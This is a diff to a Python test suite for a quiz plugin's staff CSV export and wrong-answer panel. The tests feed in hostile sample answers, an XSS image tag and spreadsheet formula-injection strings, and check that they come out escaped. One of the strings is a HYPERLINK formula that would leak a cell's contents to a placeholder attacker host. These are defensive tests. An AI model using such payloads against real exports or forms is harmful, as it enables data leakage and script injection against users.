@@ -5,9 +5,11 @@ the panel by whoever may edit the quiz, with the learners who gave them rescored
 from __future__ import annotations
 
 import pytest
+import webob
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 
+from spreadsheets import formulas, is_number, read_back, shown
 from sse_academy_xblock.quiz import wrong_answers
 from sse_academy_xblock.quiz.models import QuizItemAnswer, QuizRoster, QuizWrongAnswer
 
@@ -223,3 +225,83 @@ def test_a_hostile_wrong_answer_is_shown_as_text(make_block, call):
     html = make_block.as_user(block, "staff").render("student_view", {}).body_html()
     assert "<img src=x" not in html and "&lt;img src=x onerror=" in html
     assert listed(items(make_block, call, block)["q1"]) == [('<img src=x onerror="alert(1)">', 1)]
+
+
+# --- the item analysis CSV ------------------------------------------------------------------------
+
+WRONG_COLUMNS = ("Wrong answer", "Learners who gave it", "Other wrong answers (learners)")
+
+
+def items_csv(make_block, block, query=""):
+    response = make_block.as_user(block, "staff").handle("staff_items_csv",
+                                                         webob.Request.blank("/" + query, method="GET"))
+    assert response.status_code == 200, response.body[:300]
+    return response.body.decode("utf-8")
+
+
+def csv_wrong(text, header=("Question id", *WRONG_COLUMNS)):
+    """``{question id: [(wrong answer, learners who gave it, other wrong answers), ...]}`` as a spreadsheet reads
+    the download (its question rows, in order)."""
+    rows = read_back(text, ",")
+    qid, *columns = (rows[0].index(name) for name in header)
+    out = {}
+    for row in rows[1:]:
+        if row[0] != rows[-1][0]:  # the whole test's rows come last
+            out.setdefault(row[qid], []).append(tuple(row[c] for c in columns))
+    return out
+
+
+def test_the_item_analysis_csv_lists_the_wrong_answers_with_their_counts(taken, make_block):
+    text = items_csv(make_block, taken)
+    assert formulas(text) == []
+    wrong = csv_wrong(text)
+    # as grading compares them: "Mondragon", "  MONDRAGON. " and "mondragon" are one answer; "1999,0" is 1999
+    assert wrong["q1"] == [("mondragon", "3", "0"), ("basque", "1", "0")]
+    assert wrong["q2"] == [("1999", "2", "0"), ("2.5", "1", "0")]
+    assert all(is_number(cell) for row in wrong["q2"] for cell in row)  # numbers a spreadsheet adds up
+    # a choice question has its option rows, with nothing in the wrong-answer columns
+    assert wrong["q3"] == [("", "", ""), ("", "", "")]
+
+
+def test_the_csv_lists_every_counted_wrong_answer_and_counts_the_others(make_block, call, monkeypatch):
+    """The panel shows the ten most frequent; the CSV all the counted ones, and the learners counted among the
+    others (an over-long answer, or one that had to make way)."""
+    block = make_block(QUIZ)
+    typed = [f"answer {n:02d}" for n in range(12)] * 2 + ["x" * (wrong_answers.VALUE_LENGTH + 1)]
+    for i, answer in enumerate(typed):
+        submit(make_block, call, block, f"l{i}", {"q1": answer})
+    assert len(items(make_block, call, block)["q1"]["wrong_answers"]) == 10
+    assert csv_wrong(items_csv(make_block, block))["q1"] == [(f"answer {n:02d}", "2", "1") for n in range(12)]
+
+
+def test_the_csv_names_its_wrong_answer_columns_in_the_staff_members_language(taken, make_block):
+    from django.utils import translation
+
+    with translation.override("fr"):
+        text = items_csv(make_block, taken)
+    header = ("Identifiant de la question", "Réponse fausse", "Apprenants ayant donné cette réponse",
+              "Autres réponses fausses (apprenants)")
+    wrong = csv_wrong(text, header)
+    assert wrong["q2"] == [("1999", "2", "0"), ("2.5", "1", "0")]  # a number stays a number: "2.5", not "2,5"
+
+
+def test_a_hostile_wrong_answer_is_text_in_the_csv(make_block, call):
+    block = make_block(QUIZ)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    for learner, answers in (("mallory", {"q1": hostile, "q2": "-7"}), ("trudy", {"q1": "\t+1+1", "q2": "-7"}),
+                             ("oscar", {"q1": "@SUM(A1)"}), ("peggy", {"q1": "x;-2+3"})):
+        submit(make_block, call, block, learner, answers)
+    text = items_csv(make_block, block)
+    assert formulas(text) == []  # read as an English (",") and a French (";") spreadsheet splits it
+    wrong = csv_wrong(text)
+    assert sorted(shown(value) for value, _n, _o in wrong["q1"]) == sorted(
+        ['=hyperlink("http://evil.example/?"&a1,"click")', "+1+1", "@sum(a1)", "x;-2+3"])
+    assert all(value.startswith("'") for value, _n, _o in wrong["q1"] if not value.startswith("x"))
+    assert wrong["q2"] == [("-7", "2", "0")]  # a negative number is a number, not a formula to neutralise
+
+
+def test_the_csv_of_other_attempt_sets_leaves_the_wrong_answers_out(taken, make_block):
+    """Wrong answers are counted for the counted (last) attempts only, as the panel says."""
+    for query in ("?attempts=first", "?attempts=all"):
+        wrong = csv_wrong(items_csv(make_block, taken, query))
+        assert wrong["q1"] == [("", "", "")] and wrong["q2"] == [("", "", "")], query
